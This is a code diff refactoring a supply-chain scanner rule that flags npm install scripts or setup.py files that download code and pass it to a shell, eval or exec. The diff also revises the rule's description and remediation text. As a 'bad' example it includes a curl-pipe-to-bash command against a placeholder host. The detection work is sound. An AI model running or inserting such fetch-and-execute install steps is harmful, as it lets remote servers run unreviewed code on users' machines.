@@ -1,6 +1,5 @@
 import { exampleFiles } from '../../example-files.ts'
-import type { WordySupplyChainRule } from '../../remark.ts'
-import { deeds } from './install-deeds.ts'
+import { defineInstallRule } from './install-rule.ts'
 
 const of = (postinstall: string, files: Record<string, string> = {}) =>
   exampleFiles({
@@ -8,10 +7,10 @@ const of = (postinstall: string, files: Record<string, string> = {}) =>
     ...files,
   })
 
-export const installScriptRemoteCode: WordySupplyChainRule = {
-  document: {
+export const installScriptRemoteCode = defineInstallRule(
+  {
     id: 'install-script-remote-code',
-    title: 'An installation runs code that it fetches',
+    title: 'Remote code execution through an install script: the installation runs downloaded code',
     category: 'supply-chain',
     severity: 'high',
     precision: 'medium',
@@ -19,15 +18,15 @@ export const installScriptRemoteCode: WordySupplyChainRule = {
     owaspMcp: ['MCP04:2025'],
     safeMcp: ['SAFE-T1002'],
     what:
-      'A script that npm runs at installation, a `setup.py` or a build backend of the package fetches ' +
-      'something and hands it to a shell, `eval` or `exec`, or opens a shell to somebody else. Files that a ' +
-      'script names are read too.',
+      'An npm install script, a `setup.py`, or a build backend downloads code and passes it to a shell, `eval`, or ' +
+      '`exec`. Reverse shells and encoded commands are reported too. The rule reads the text of the scripts and of ' +
+      'the files that they name, and does not run them.',
     why:
-      'What runs is not in the package: whoever decides it at that address decides it anew for each machine, ' +
-      'and no review, lockfile or digest sees it.',
+      'The package does not contain the code that runs. The server can send other code to each machine, and no ' +
+      'review, lockfile, or digest covers it.',
     remediation:
-      'Do not install it, or install with `--ignore-scripts`. Whoever makes it puts the code into the ' +
-      'package, or fetches a fixed file and compares its digest.',
+      'Do not install the package, or install it with `--ignore-scripts`. As the publisher, put the code into the ' +
+      'package, or download a fixed file and compare its digest.',
     examples: {
       bad: [
         of('curl -s https://setup.example/run.sh | bash'),
@@ -57,5 +56,5 @@ export const installScriptRemoteCode: WordySupplyChainRule = {
       ],
     },
   },
-  find: (project) => deeds(project, 'runsRemoteCode', installScriptRemoteCode.document),
-}
+  'runsRemoteCode',
+)
